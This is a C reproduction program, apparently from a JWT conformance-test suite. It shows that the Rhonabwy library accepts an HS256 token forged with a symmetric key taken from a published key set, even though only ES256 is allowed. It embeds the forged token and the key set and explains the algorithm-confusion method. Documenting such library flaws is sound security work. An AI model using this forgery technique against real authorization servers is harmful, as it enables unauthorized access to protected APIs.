/* Rhonabwy 1.1 verifies an HS256 token with a symmetric key from the configured key set,
 * although the profile allows ES256 only: Rhonabwy has no algorithm allowlist, so the header's
 * alg picks the algorithm and any key of a fitting type verifies. A key set is published (the
 * authorization server's jwks_uri), so a symmetric key in it is no secret: anyone who reads the
 * set mints tokens.
 *
 * RFC 8725 §3.1: "Libraries MUST enable the caller to specify a supported set of algorithms and
 * MUST NOT use any other algorithms when performing cryptographic operations." (RFC8725-3.1-alg)
 *
 * Reproduces: confusion/mixed-oct-hs256 (forgery)
 *
 * Rhonabwy is configured exactly as the jwt-conformance adapter does
 * (adapters/rhonabwy/adapter.c): r_jwks_import_from_json_str; r_jwt_advanced_parsen with
 * R_PARSE_NONE and R_FLAG_IGNORE_REMOTE; r_jwt_verify_signature with the key set (kid lookup
 * by the library); r_jwt_validate_claims with ISS, AUD, EXP = now, IAT = now + 60, SUB, JTI,
 * client_id present and TYP "at+jwt" (the adapter makes one call per claim; the verdict is
 * the same).
 *
 * Run (Debian librhonabwy-dev installed): bash scripts/setup/c.sh && adapters/rhonabwy/bin/repro
 * or: gcc -o repro adapters/rhonabwy/repro.c $(pkg-config --cflags --libs librhonabwy jansson) && ./repro
 */
#include <stdio.h>
#include <string.h>

#include <rhonabwy.h>

static const char TOKEN[] =
    "eyJhbGciOiJIUzI1NiIsImtpZCI6ImhtYWMiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY"
    "2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1Z"
    "XIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.jr3ciDThtOL6vG"
    "bGca8Hp57W_1XzivMkR0QzlUiEKkI";
static const char JWKS[] =
    "{\"keys\":[{\"alg\":\"ES256\",\"crv\":\"P-256\",\"kid\":\"primary\",\"kty\":\"EC\",\"use\":\"sig\",\"x\":\"Og9O0oqYw6X3WZLhEr"
    "umXMqF78CgL9XjmicCJocZZuE\",\"y\":\"opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI\"},{\"k\":\"YSBzeW1tZXRyaWMg"
    "c2VjcmV0IHB1Ymxpc2hlZCBpbiB0aGUga2V5IHNldA\",\"kid\":\"hmac\",\"kty\":\"oct\"}]}";
static const char ISSUER[] = "https://issuer.example", AUDIENCE[] = "https://api.example", TYP[] = "at+jwt";
static const int NOW = 1700000000, IAT_SKEW = 60;

int main(void)
{
    jwks_t *jwks = NULL;
    jwt_t *jwt = NULL;
    const char *step = "r_global_init";
    int ok = r_global_init() == RHN_OK;
    if (ok && (ok = (r_jwks_init(&jwks) == RHN_OK && r_jwks_import_from_json_str(jwks, JWKS) == RHN_OK)) == 0)
        step = "r_jwks_import_from_json_str";
    if (ok && (ok = (r_jwt_init(&jwt) == RHN_OK &&
                     r_jwt_advanced_parsen(jwt, TOKEN, strlen(TOKEN), R_PARSE_NONE, R_FLAG_IGNORE_REMOTE) == RHN_OK)) == 0)
        step = "r_jwt_advanced_parsen";
    if (ok && (ok = (r_jwt_add_sign_jwks(jwt, NULL, jwks) == RHN_OK &&
                     r_jwt_verify_signature(jwt, NULL, R_FLAG_IGNORE_REMOTE) == RHN_OK)) == 0)
        step = "r_jwt_verify_signature";
    if (ok && (ok = r_jwt_validate_claims(jwt, R_JWT_CLAIM_ISS, ISSUER, R_JWT_CLAIM_AUD, AUDIENCE, R_JWT_CLAIM_EXP, NOW,
                                          R_JWT_CLAIM_IAT, NOW + IAT_SKEW, R_JWT_CLAIM_SUB, NULL, R_JWT_CLAIM_JTI, NULL,
                                          R_JWT_CLAIM_STR, "client_id", NULL, R_JWT_CLAIM_TYP, TYP,
                                          R_JWT_CLAIM_NOP) == RHN_OK) == 0)
        step = "r_jwt_validate_claims";
    if (ok)
        printf("REPRODUCED confusion/mixed-oct-hs256: Rhonabwy accepted an HS256 token keyed with the "
               "key set's symmetric key, where only ES256 is allowed\n");
    else
        printf("NOT REPRODUCED confusion/mixed-oct-hs256: %s refused the token\n", step);
    r_jwt_free(jwt);
    r_jwks_free(jwks);
    r_global_close();
    return ok ? 0 : 1;
}
